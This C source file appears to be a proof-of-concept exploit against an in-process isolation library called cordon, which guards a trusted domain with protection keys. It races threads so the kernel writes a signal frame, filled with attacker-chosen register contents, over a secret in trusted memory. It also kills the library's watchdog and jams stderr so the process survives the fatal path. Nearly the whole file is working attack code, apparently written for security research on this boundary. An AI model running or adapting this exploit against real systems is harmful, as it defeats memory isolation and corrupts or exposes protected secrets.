// 6.1: a signal frame written into trusted memory by the kernel, under the
// domain's PKRU, at a stack pointer untrusted code chose. The gate holds the
// domain's rights on the caller's stack pointer between its entry WRPKRU and
// the stack switch, and on the .Lheld path it even makes a system call
// (gettid) there. Thread T enters the domain with rsp = X (X inside trusted
// memory, just above the secret) and sleeps inside its entry; thread A copies
// T's record index into its own TLS and jumps into the gate with the same
// rsp: the claim fails with rax == rsp, so A reaches .Lheld and its gettid
// with the domain's PKRU and rsp = X. Thread B floods A with SIGUSR1: a
// signal that arrives then is delivered at the syscall's return and the 6.1
// kernel writes the frame at X - 128 - size, over the secret. T, still
// inside the domain, then hashes the secret and prints it. A dies in the
// fatal path, whose watchdog thread B kills (fail_open_watchdog.c), with
// fd 2 a full pipe, so the process lives on long enough for T to report.
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern __thread uint32_t cordon_tls_records[];
extern char cordon_gate_avx_1[];

static cordon_entry g_gen, g_hash, g_sleep;
static uint8_t* g_big;     // 64 KiB trusted block; secret at +32 KiB
static uint64_t g_X;
static volatile uint32_t g_t_index = 0xffffffff;
static volatile int g_t_inside, g_atid, g_t_done;
static int g_rd;

static uint64_t fnv(const uint8_t* p, size_t n) {
  uint64_t h = 1469598103934665603ull;
  for (size_t i = 0; i < n; i++) h = (h ^ p[i]) * 1099511628211ull;
  return h;
}
static void hex64(char* out, uint64_t v) { for (int i = 15; i >= 0; i--) { out[i] = "0123456789abcdef"[v & 15]; v >>= 4; } }
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(65536, &p) != 0) return 0;
  memset(p, 0, 65536);
  if (getrandom((char*)p + 32768, 32, 0) != 32) return 0;
  return (uint64_t)p;
}
static uint64_t e_hash(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return fnv(g_big + 32768, 32);
}
// A trusted entry that blocks for a while (any entry doing I/O), then checks
// the secret it holds.
static uint64_t e_sleep(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)b; (void)c; (void)d; (void)e;
  g_t_inside = 1;
  struct timespec ts = {0, 100 * 1000 * 1000};
  for (int i = 0; i < (int)a; i++) nanosleep(&ts, 0);
  char msg[64] = "trusted T: secret fnv now ";
  hex64(msg + 26, fnv(g_big + 32768, 32));
  msg[42] = '\n';
  write(1, msg, 43);
  g_t_done = 1;
  for (;;) nanosleep(&ts, 0);
}

static void on_usr1(int s) { (void)s; }

static void* thread_t(void* arg) {
  (void)arg;
  // Attach T (gives it a record), then publish its index.
  cordon_call(g_hash, 0, 0, 0, 0, 0);
  g_t_index = cordon_tls_records[1];
  register uint64_t x asm("r12") = g_X;
  // Enter the sleeping entry with rsp = X: jmp, not call (call would push).
  asm volatile(
      "mov rdi, 2\n mov r9d, %1\n mov rsp, r12\n jmp cordon_gate_avx_1\n"
      :: "r"(x), "r"(g_sleep.id) : "memory");
  return 0;
}

static volatile int g_flood;
static void* thread_b(void* arg) {
  (void)arg;
  pid_t pid = getpid();
  // In a fork child /proc/<pid> is closed by Landlock: predict the
  // watchdog's pid from a probe child instead.
  pid_t probe = fork();
  if (probe == 0) _exit(0);
  waitpid(probe, 0, 0);
  while (!g_flood) {}
  for (long i = 0; i < 200000000 && !g_t_done; i++) {
    syscall(SYS_tgkill, pid, g_atid, SIGUSR1);
    if ((i & 15) == 0) for (int k = 1; k <= 3; k++) kill(probe + k, SIGKILL);
  }
  while (!g_t_done) usleep(1000);
  char m[70000]; long got = 0; fcntl(g_rd, F_SETFL, O_NONBLOCK);
  for (int k = 0; k < 3; k++) { for (;;) { ssize_t n = read(g_rd, m + got, sizeof m - 1 - got); if (n <= 0) break; got += n; } usleep(100000); }
  m[got] = 0; char* c = strstr(m, "cordon:");
  dprintf(1, "B: A's fatal message: %s", c ? c : "(none)\n");
  _exit(0);
}

static int attempt(int off);
int main(int argc, char** argv) {
  int off = argc > 1 ? atoi(argv[1]) : 0x200;
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) return 1;
  cordon_domain_t d = cordon_trusted_domain();
  cordon_register(d, e_gen, "gen", &g_gen);
  cordon_register(d, e_hash, "hash", &g_hash);
  cordon_register(d, e_sleep, "sleep", &g_sleep);
  g_big = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  struct sigaction sa; memset(&sa, 0, sizeof sa); sa.sa_handler = on_usr1;
  if (getenv("LATE") == NULL) cordon_sigaction(SIGUSR1, &sa, 0);  // 6.12: refused by the lockdown (SA_ONSTACK added)
  printf("secret at %p, fnv %016llx\n", g_big + 32768, (unsigned long long)cordon_call(g_hash, 0, 0, 0, 0, 0));
  fflush(stdout);
  if (cordon_lockdown() != 0) return 1;
  if (getenv("LATE") != NULL) cordon_sigaction(SIGUSR1, &sa, 0);
  int tries = argc > 2 ? atoi(argv[2]) : 20;
  for (int i = 0; i < tries; i++) {
    pid_t c = fork();
    if (c == 0) return attempt(off);
    int st; waitpid(c, &st, 0);
    printf("attempt %d: child status %#x\n", i, st); fflush(stdout);
  }
  return 0;
}

static int attempt(int off) {
  g_X = (uint64_t)(g_big + 32768 + off);
  // fd 2: a full pipe, so that A's fatal path blocks.
  int p[2]; pipe(p); g_rd = p[0]; dup2(p[1], 2); fcntl(2, F_SETFL, O_NONBLOCK);
  char junk[4096]; memset(junk, 'x', sizeof junk);
  while (write(2, junk, sizeof junk) > 0) {}
  while (write(2, junk, 1) > 0) {}
  fcntl(2, F_SETFL, 0);
  g_atid = gettid();
  pthread_t t, b;
  pthread_create(&t, 0, thread_t, 0);
  pthread_create(&b, 0, thread_b, 0);
  while (!g_t_inside) usleep(1000);
  cordon_tls_records[1] = g_t_index;
  printf("A: T's record %u, jumping into the gate with rsp %#llx\n", g_t_index, (unsigned long long)g_X);
  fflush(stdout);
  g_flood = 1;
  usleep(1000);
  // Attacker-chosen bytes in every register the frame saves: general
  // registers and, with AVX-512, zmm16-31 (the frame's top, which lands on
  // the secret for off 512). Expected secret hash if the bytes land there:
  { uint8_t pat[32]; memset(pat, 0x41, 32); printf("A: fnv of 32 x 0x41 is %016llx\n", (unsigned long long)fnv(pat, 32)); fflush(stdout); }
  if (getenv("ZMM") != NULL) {
    asm volatile("mov eax, 0x41414141\n vpbroadcastd zmm16, eax\n"
                 "vmovdqa64 zmm17, zmm16\n vmovdqa64 zmm18, zmm16\n vmovdqa64 zmm19, zmm16\n vmovdqa64 zmm20, zmm16\n"
                 "vmovdqa64 zmm21, zmm16\n vmovdqa64 zmm22, zmm16\n vmovdqa64 zmm23, zmm16\n vmovdqa64 zmm24, zmm16\n"
                 "vmovdqa64 zmm25, zmm16\n vmovdqa64 zmm26, zmm16\n vmovdqa64 zmm27, zmm16\n vmovdqa64 zmm28, zmm16\n"
                 "vmovdqa64 zmm29, zmm16\n vmovdqa64 zmm30, zmm16\n vmovdqa64 zmm31, zmm16\n" ::: "eax", "memory");
  }
  register uint64_t x asm("r12") = g_X;
  asm volatile("mov r9d, %1\n mov rsp, r12\n jmp cordon_gate_avx_1\n" :: "r"(x), "r"(g_hash.id) : "memory");
  return 0;
}
